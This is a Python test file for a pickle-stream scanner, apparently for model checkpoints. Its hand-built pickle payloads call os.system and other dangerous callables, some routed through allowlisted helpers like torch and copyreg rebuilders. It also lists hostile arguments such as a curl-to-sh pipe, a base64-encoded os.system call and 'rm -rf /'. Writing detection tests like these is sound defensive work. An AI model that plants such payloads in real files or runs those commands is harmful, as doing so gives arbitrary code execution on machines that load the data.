"""No callable from public advisories is ever safe, however the stream spells the call."""

from __future__ import annotations

import pytest

from safeload.core.finding import Status
from tests.rules.gadgets import ALIASED, DOTTED, INDIRECT, LOADERS, UNLISTED, pairs
from tests.rules.streams import CALLS, findings, rules, status, stream, text

NAMES = [*pairs(UNLISTED), *pairs(INDIRECT), *pairs(LOADERS), *DOTTED, *ALIASED]
ARGUMENT = text("touch marker")


@pytest.mark.parametrize("how", CALLS)
@pytest.mark.parametrize(("module", "name"), NAMES, ids=lambda part: part)
def test_a_gadget_is_dangerous_in_every_spelling(module: str, name: str, how: str) -> None:
    """In protocols 0 to 5 and with every opcode that calls, each known gadget is dangerous."""
    for protocol in (0, 2, 4, 5):
        assert status(CALLS[how](module, name, text("touch marker", protocol), protocol)) is Status.DANGEROUS


@pytest.mark.parametrize(
    "argument", [b"", text("x"), b"K\x01", b"}", b"N"], ids=["none", "text", "int", "dict", "None"]
)
@pytest.mark.parametrize(("module", "name"), NAMES, ids=lambda part: part)
def test_a_gadget_is_dangerous_whatever_its_arguments(module: str, name: str, argument: bytes) -> None:
    """What a gadget is called with only makes the message precise."""
    assert status(CALLS["reduce"](module, name, argument, 4)) is Status.DANGEROUS


@pytest.mark.parametrize(
    "name",
    [
        "__builtin__.eval",
        "__builtin__.execfile",
        "os.popen2",
        "cPickle.loads",
        "urllib.urlopen",
        "copy_reg.add_extension",
    ],
)
def test_names_of_python_2_are_dangerous(name: str) -> None:
    """Names that only Python 2 has, or that are mapped to today's, are judged as what they become."""
    module, _, last = name.rpartition(".")
    for protocol in (0, 1, 2, 3, 4):
        assert status(CALLS["reduce"](module, last, b"", protocol)) is Status.DANGEROUS


def test_a_computed_callee_is_dangerous() -> None:
    """Calling the result of a call is dangerous, even where that call is allowed."""
    assert rules(b"\x80\x03ccollections\nOrderedDict\n)R)R.") == {"pickle-dangerous-call"}


def test_a_persistent_callee_is_dangerous() -> None:
    """Calling an object that the loading program supplies is dangerous."""
    assert status(b"\x80\x03K\x01Q)R.") is Status.DANGEROUS


def test_a_gadget_that_is_only_named_is_dangerous() -> None:
    """A gadget in an object's state would be called later, as a hook or a factory."""
    assert status(b"\x80\x03cargparse\nNamespace\n)\x81}X\x01\x00\x00\x00fcos\nsystem\nsb.") is Status.DANGEROUS
    assert status(b"\x80\x03ccollections\ndefaultdict\ncos\nsystem\n\x85R.") is Status.DANGEROUS


def test_helpers_do_not_launder_calls() -> None:
    """Allowlisted helpers that call an argument are judged by what they call."""
    evil = b"cnobody.knows\nfunction\n"
    assert (
        status(b"\x80\x03ctorch._tensor\n_rebuild_from_type_v2\n(" + evil + b"ctorch\nTensor\n)NtR.")
        is Status.DANGEROUS
    )
    assert status(b"\x80\x03ccopyreg\n_reconstructor\n(cargparse\nNamespace\n" + evil + b"NtR.") is Status.DANGEROUS
    assert status(b"\x80\x03ccopyreg\n__newobj__\n(cos\n_wrap_close\ntR.") is Status.DANGEROUS
    assert status(b"\x80\x03cnumpy.random._pickle\n__randomstate_ctor\n(" + evil + b"tR.") is Status.DANGEROUS
    assert status(b"\x80\x03c_codecs\nencode\nX\x01\x00\x00\x00xX\x04\x00\x00\x00evil\x86R.") is Status.DANGEROUS


def test_helpers_within_helpers_do_not_launder_calls() -> None:
    """A rebuilder that is told to call another, also with a list of arguments, hides nothing; depth is no way out."""
    helper, tensor = b"ctorch._tensor\n_rebuild_from_type_v2\n", b"ctorch\nTensor\n"
    state = b"caccelerate.state\nPartialState\n"
    inner = b"](" + state + tensor + text("gloo") + b"\x85Ne"
    assert status(b"\x80\x03" + helper + b"(" + helper + tensor + inner + b"NtR.") is Status.UNVERIFIED
    assert status(b"\x80\x03" + helper + b"(" + helper + tensor + b"}NtR.") is Status.DANGEROUS
    args = b"(cnobody\nf\n" + tensor + b")Nt"
    for _ in range(2_000):
        args = b"(" + helper + tensor + args + b"Nt"
    assert status(b"\x80\x03" + helper + args + b"R.") is Status.DANGEROUS


def test_conversions_do_not_call_methods_of_records() -> None:
    """`str(object)` would run the object's own `__str__`; no pickler writes that."""
    made = b"caccelerate.state\nPartialState\n)\x81"
    assert status(b"\x80\x03cbuiltins\nstr\n" + made + b"\x85R.") is Status.UNVERIFIED


def test_enumeration_members_by_getattr_are_the_only_getattr() -> None:
    """Python 3.11 pickles some members as `getattr(Enumeration, 'NAME')`; any other `getattr` is dangerous."""
    owner = b"cbuiltins\ngetattr\nctransformers.trainer_utils\nSchedulerType\n"
    assert status(b"\x80\x03" + owner + text("LINEAR") + b"\x86R.") is Status.SAFE
    for name in ("__class__", "mro", "_member_map_", "LINEAR.value"):
        assert status(b"\x80\x03" + owner + text(name) + b"\x86R.") is Status.DANGEROUS
    assert status(b"\x80\x03" + owner + text("LINEAR") + b"\x86R)R.") is Status.DANGEROUS
    other = b"cbuiltins\ngetattr\ncargparse\nNamespace\n"
    assert status(b"\x80\x03" + other + text("LINEAR") + b"\x86R.") is Status.DANGEROUS
    kept = b"\x80\x03cbuiltins\ngetattr\nq\x010h\x01ctransformers.trainer_utils\nSchedulerType\n"
    assert status(kept + text("LINEAR") + b"\x86Rh\x01\x86.") is Status.DANGEROUS


def test_an_unknown_function_is_dangerous_and_an_unknown_class_is_not() -> None:
    """Picklers write classes and their own helpers; a function of a library nobody listed is neither."""
    assert status(CALLS["reduce"]("new.library", "do_it", b"", 4)) is Status.DANGEROUS
    assert status(CALLS["newobj"]("new.library", "Settings", b"", 4)) is Status.UNVERIFIED
    assert status(CALLS["reduce"]("new.library", "Settings", text("linear"), 4)) is Status.UNVERIFIED
    assert status(CALLS["reduce"]("new.library", "__pyx_unpickle_Tree", b"", 4)) is Status.UNVERIFIED


@pytest.mark.parametrize(
    "argument",
    [
        "curl http://example.org/x | sh",
        "import os; os.system('x')",
        "https://example.org/payload",
        "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ3RvdWNoIHgnKQ==",
        "/bin/sh -c id",
        "rm -rf /",
    ],
)
def test_arguments_make_an_unknown_class_dangerous(argument: str) -> None:
    """A command, code or an address, also encoded, makes a call of an unlisted class dangerous."""
    assert status(CALLS["reduce"]("new.library", "Runner", text(argument), 4)) is Status.DANGEROUS


def test_the_message_names_the_call_and_its_place() -> None:
    """A finding shows the callable, its arguments, the member and the offset."""
    (finding,) = findings(stream(CALLS["reduce"]("os", "system", ARGUMENT, 4)))
    assert "os.system('touch marker')" in finding.message
    assert (finding.location.member, finding.location.offset) == ("data.pkl", 32)
    assert finding.evidence == ("command: touch marker",)


def test_every_call_is_named_and_none_is_hidden_by_many() -> None:
    """Two different calls give two findings; a hundred thousand equal ones give few, and still the worst status."""
    two = CALLS["reduce"]("os", "system", ARGUMENT, 4)[:-1] + CALLS["reduce"]("posix", "popen", ARGUMENT, 4)[2:]
    found = findings(stream(two))
    assert [finding.message.split("(")[0] for finding in found if finding.rule == "pickle-dangerous-call"] == [
        "would call os.system",
        "would call posix.popen",
    ]
    many = b"\x80\x03cos\nsystem\nq\x01" + b"h\x01)R0" * 100_000 + b"N."
    assert 1 < len(findings(stream(many))) <= 101


def test_hostile_text_is_escaped() -> None:
    """Control characters, bidirectional marks and line breaks of names and arguments never reach a message raw."""
    data = (
        b"\x80\x04" + text("nobody\x1b[31m\u202e.x") + text("do\nit") + b"\x93" + text("\x1b]0;x\x07\u2066") + b"\x85R."
    )
    for finding in findings(stream(data)):
        assert all(character.isprintable() for character in finding.message + "".join(finding.evidence))


def test_changing_what_the_process_shares_is_dangerous() -> None:
    """State set on a class, a persistent object, an enumeration member, or through `__class__` is dangerous."""
    assert status(b"\x80\x03cargparse\nNamespace\n}X\x01\x00\x00\x00aK\x01sb.") is Status.DANGEROUS
    assert status(b"\x80\x03K\x01Q}b.") is Status.DANGEROUS
    member = b"\x80\x03ctransformers.trainer_utils\nSchedulerType\nX\x06\x00\x00\x00linear\x85R}b."
    assert status(member) is Status.DANGEROUS
    assert status(b"\x80\x03cargparse\nNamespace\n)\x81N}X\x09\x00\x00\x00__class__Ns\x86b.") is Status.DANGEROUS


def test_constructors_with_arguments_are_not_what_an_entry_allows() -> None:
    """A class that is listed for its state is unverified when its constructor gets arguments."""
    assert status(CALLS["newobj"]("accelerate.state", "PartialState", b"", 4)) is Status.SAFE
    assert status(CALLS["reduce"]("accelerate.state", "PartialState", text("gloo"), 4)) is Status.UNVERIFIED
    assert status(CALLS["inst"]("accelerate.state", "PartialState", text("gloo"), 0)) is Status.UNVERIFIED
    assert status(CALLS["reduce"]("torch.nn.functional", "relu", text("x"), 4)) is Status.UNVERIFIED
